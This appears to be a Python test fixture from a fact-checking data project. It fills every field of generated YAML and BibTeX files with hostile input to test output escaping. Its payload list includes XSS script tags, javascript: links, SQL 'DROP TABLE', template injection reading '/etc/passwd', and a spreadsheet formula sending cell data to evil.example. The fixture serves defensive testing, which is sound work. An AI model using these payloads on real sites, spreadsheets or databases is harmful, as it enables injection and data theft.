"""Makes a project in which every visible text is hostile and different from the others."""

import re

from tests.conftest import TINY

# Text that could run, break out of an attribute or look like a placeholder.
HOSTILE = (
    "</p><script>alert('NAME')</script>\" onmouseover=\"x\" '{{7*7}}{% if %} &lt;NAME&gt; &amp;"
)

CLAIM_FIELDS = """
claim: {claim}
kind: quotation
appears_in:
  - article: story
    sentence: S01
asserted_by: hostile-person
embeds: crossings-are-a-threat
when: 2023-08-18
as_of: 2023-08-19
countries: [hostile-country]
about: [hostile-person, hostile-body, hostile-place]
topics: [hostile-topic]
evidence:
  - source: lrt-hostile
    stance: supports
    part: {part}
    basis: reporting
    origin: hostile-origin
    says: {says}
    quote:
      text: {quoted}
      speaker: {speaker}
      lang: lt
      translation: {translation}
verdict: supported
outdated: {outdated}
confidence: high
finding: {finding}
would_change: {would-change}
search_log:
  - date: 2026-11
    where: {where}
    query: {query}
    result: {result}
checked:
  date: 2026-11-22
  by: {checked-by}
revisions:
  - date: 2026-11-22
    kind: correction
    field: {field}
    from: {from}
    to: {to}
    reason: {reason}
related:
  - claim: two-crossings
    relation: follows
    why: {why}
"""

HOSTILE_FILES = {
    "facts/claims/borders/hostile.yaml": CLAIM_FIELDS,
    "facts/claims/borders/hostile-gone.yaml": (
        "claim: {gone}\nwithdrawn: {withdrawn}\ndate: 2026-11-22\n"
    ),
    "facts/sources/lrt.bib": TINY["facts/sources/lrt.bib"].replace("{", "{{").replace("}", "}}")
    + "@online{{lrt-hostile,\n  title = {source-title},\n  author = {author},\n"
    "  date = {{2023-08-18}},\n  url = {{https://www.lrt.lt/hostile?a=1&b=2}},\n"
    "  archiveurl = {{https://web.archive.org/web/2023/https://www.lrt.lt/hostile}},\n"
    "  urldate = {{2026-11}},\n  langid = {{lt}},\n  kind = {{primary}},\n"
    "  note = {source-note},\n}}\n",
    "facts/vocabulary/publishers.yaml": (
        "lrt:\n  name: {publisher}\n  country: LT\n  kind: broadcaster\n  note: {publisher-note}\n"
        "tass:\n  name: TASS\n  country: RU\n  kind: state-media\n  owner: russian-state\n"
    ),
    "facts/vocabulary/origins.yaml": "hostile-origin:\n  name: {origin}\n  by: somebody\n",
    "facts/vocabulary/countries.yaml": TINY["facts/vocabulary/countries.yaml"]
    + "hostile-country:\n  name: {country}\n  code: LT\n  summary: {country-summary}\n",
    "facts/vocabulary/people.yaml": TINY["facts/vocabulary/people.yaml"]
    + "hostile-person:\n  name: {person}\n  original: {original}\n  lang: lt\n"
    "  spellings: [{spelling}]\n  note: {person-note}\n  country: hostile-country\n"
    "  roles:\n    - title: {role}\n      when: 2020/2024\n",
    "facts/vocabulary/organisations.yaml": TINY["facts/vocabulary/organisations.yaml"]
    + "hostile-body:\n  name: {body}\n  kind: {body-kind}\n  note: {body-note}\n",
    "facts/vocabulary/places.yaml": TINY["facts/vocabulary/places.yaml"]
    + "hostile-place:\n  name: {place}\n  kind: {place-kind}\n  note: {place-note}\n"
    "  countries: [hostile-country]\n"
    "  periods:\n    - state: closed\n      when: 2023-08-18/..\n      claim: hostile\n",
    "facts/vocabulary/topics.yaml": TINY["facts/vocabulary/topics.yaml"]
    + "hostile-topic:\n  name: {topic}\n  summary: What belongs to it.\n",
    "seeds/story/article.yaml": (
        "title: {article}\nbyline: {byline}\npublisher: {article-publisher}\ndate: 2023-08-24\n"
        "date_basis: {date-basis}\nsentences:\n  - id: S01\n    start: 0\n    end: 42\n"
        "  - id: S02\n    start: 43\n    end: 57\n    state: context\n    reason: {state-reason}\n"
    ),
}


# Text with a special meaning in a format of open data. NAME is replaced by the field's name.
PAYLOADS = {
    "nothing": "Plain words of NAME",
    "script": HOSTILE,
    "formula": '=HYPERLINK("https://evil.example/?"&A1;"NAME")',
    "minus": "-1+1|cmd NAME",
    "at sign": "@SUM(1,1) NAME",
    "cdata": "]]></title><x>NAME</x><![CDATA[ &#x3c;b&#x3e; <!-- --!> <?xml?> <!DOCTYPE x",
    "end of script": "</script><!--<script>NAME</script> &lt;/script&gt; */ // --> </SCRIPT >",
    "template": "{{ config }}{% include '/etc/passwd' %}{# NAME #}${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
    "markdown": "[NAME](javascript:alert(1)) ![x](https://evil.example/x) <b> `x` [@said-threat] #",
    "address": "javascript:alert('NAME') data:text/html,<script>alert(1)</script>",
    "database": "'; DROP TABLE claims; -- NAME",
    "other rows": "NAME END:VEVENT BEGIN:VEVENT TY  - ER  - {}, url = {x}, @online{y, z}",
    "long word": "NAME" + "w" * 200,
    "piled marks": "NAME" + "\u0334\u0341\u0323" * 40,
    "right to left": "NAME كلمات من اليمين إلى اليسار 123 ABC",
    # This text has the maximum length of a statement, so shortening it would remove the end.
    "everything": (
        "=1+1 </script></title><script>alert('NAME')</script><img src=x onerror=alert(1)> \"'> "
        "{{7*7}}{% if %} ]]> <!-- javascript:alert(1) "
        + "w" * 90
        + " N"
        + "\u0334\u0341\u0323" * 15
        + " كلمات من اليمين إلى اليسار 123"
    ),
    "astral": "NAME \U0001f600\U0001f468 \U00020000 \u00ad",
}


def hostile_world(payload: str = "script") -> tuple[dict[str, str], set[str]]:
    """Return files in which every visible text is hostile, and the names of the texts."""
    names = set(re.findall(r"(?<!\{)\{([a-z-]+)\}", "".join(HOSTILE_FILES.values())))
    files = {}
    for path, form in HOSTILE_FILES.items():
        bib = path.endswith(".bib")
        texts = {name: _quoted(hostile(name, payload), bib) for name in names}
        files[path] = form.format_map(texts)
    return files, names


def hostile(name: str, payload: str = "script") -> str:
    """Return the hostile text for the field with this name."""
    return PAYLOADS[payload].replace("NAME", name)


def _quoted(text: str, bib: bool) -> str:
    if bib:
        # In BibTeX, braces and some other characters have a special meaning unless they are
        # escaped.
        return "{" + re.sub(r"([{}&%$#_])", r"\\\1", text) + "}"
    return "'" + text.replace("'", "''") + "'"
